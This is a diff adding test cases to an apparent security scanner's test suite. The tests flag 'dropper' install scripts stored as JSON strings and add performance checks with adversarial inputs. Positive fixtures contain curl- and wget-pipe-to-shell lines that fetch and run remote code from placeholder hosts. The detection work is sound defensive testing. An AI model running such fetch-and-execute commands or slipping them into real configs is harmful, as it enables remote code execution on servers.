@@ -849,3 +849,67 @@ describe('program run-control files', () => {
     expect(fileSegments({ path: 't/latexmkrc.md', text: 'notes\n' })[0].kind).not.toBe('code');
   });
 });
+
+describeRuleCases('dropper (scripts kept as JSON strings)', [
+  {
+    id: 'SG-DROPPER-001',
+    // A game-panel egg: the install script is one escaped JSON string.
+    file: 'assets/egg-game.json',
+    positive: JSON.stringify(
+      {
+        meta: { version: 'PTDL_v2' },
+        scripts: {
+          installation: {
+            script:
+              '#!/bin/bash\nset -e\ncd /mnt/server\ncurl -sSL -o server.zip "https://cdn.vendor.example/server.zip"\nunzip -o server.zip\n\n# runtime patch\ncurl -fsSL https://cdn.eggs-mirror.example/patch.sh | bash -s -- /mnt/server\n',
+            entrypoint: 'bash',
+          },
+        },
+      },
+      null,
+      2,
+    ),
+    negative: JSON.stringify(
+      {
+        meta: { version: 'PTDL_v2' },
+        scripts: {
+          installation: {
+            script:
+              '#!/bin/bash\nset -e\ncd /mnt/server\ncurl -sSL -o server.zip "https://cdn.vendor.example/server.zip"\nunzip -o server.zip\n',
+            entrypoint: 'bash',
+          },
+        },
+      },
+      null,
+      2,
+    ),
+  },
+  {
+    id: 'SG-DROPPER-001',
+    // Any key, when the value opens with a shell shebang.
+    file: 'templates/vm.json',
+    positive: JSON.stringify({
+      name: 'vm',
+      cloud_init: '#!/bin/sh\napk add curl\nwget -qO- https://x.example/i | sh\n',
+    }),
+    negative: JSON.stringify({
+      name: 'vm',
+      cloud_init: '#!/bin/sh\napk add curl\nwget -qO /tmp/i https://x.example/i\n',
+    }),
+  },
+]);
+
+describe('adversarial scripts in JSON strings', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['one long script', JSON.stringify({ script: '#!/bin/sh\n' + 'curl x | '.repeat(MiB / 10) })],
+    ['many scripts', JSON.stringify(Array.from({ length: MiB / 40 }, () => ({ install: 'a\ncurl -s x |' })))],
+    ['deep nesting', '{"script": "a\\nb", "x": ' + '['.repeat(MiB / 2)],
+    ['long keys', JSON.stringify({ ['pre' + 'a'.repeat(MiB / 2)]: 'a\nb' })],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'assets/egg.json');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
